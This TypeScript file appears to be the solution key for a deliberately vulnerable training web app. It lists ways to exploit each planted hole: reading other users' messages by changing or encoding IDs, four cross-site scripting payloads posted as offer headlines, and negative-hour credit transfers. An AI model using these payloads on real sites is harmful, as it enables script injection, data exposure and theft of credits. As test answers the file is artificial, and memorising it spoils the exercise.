import type { HoleId } from '../src/holes/catalogue.ts';
import type { Answer, Visit } from './circle-under-test.ts';
import { exchangeSolutions } from './exchange-solutions.ts';
import { identitySolutions } from './identity-solutions.ts';

/** Ways through a hole: each returns the answers that a learner can report. */
export type Ways = Readonly<Record<string, (visit: Visit) => Promise<readonly Answer[]>>>;

export const postHeadline = async (visit: Visit, headline: string) => [
  await visit.post('/offers', { headline, text: 'Wie neu.', kind: 'thing', hours: '1' }),
  await visit.get('/offers'),
];
export const give = (to: string, hours: string) => async (visit: Visit) => [
  await visit.post('/credits/transfers', { to, hours, note: 'Danke' }),
];

export const solutions: Readonly<Record<HoleId, Ways>> = {
  ...exchangeSolutions,
  ...identitySolutions,
  'messages.thread': {
    'a neighbouring number': async (visit) => [await visit.get('/messages/205')],
    'another, with a query': async (visit) => [await visit.get('/messages/211?x=1')],
    'an encoded one': async (visit) => [await visit.get('/messages/%32%302')],
  },
  'offers.headline': {
    'a script after the block': (visit) => postHeadline(visit, '</script><script>alert(1)</script>'),
    'an image': (visit) => postHeadline(visit, '</SCRIPT ><img src=x onerror=alert(1)>'),
    'a drawing': (visit) => postHeadline(visit, '</script/><svg onload=alert(1)>'),
    'an open comment around the end': (visit) =>
      postHeadline(visit, '</script><!-- --><details open ontoggle=alert`1`>'),
  },
  'credits.transfer': {
    'whole hours below zero': give('2', '-5'),
    'a quarter below zero, with a comma': give('5', '-0,25'),
    'from the moderator': give('1', '-4.5'),
  },
};
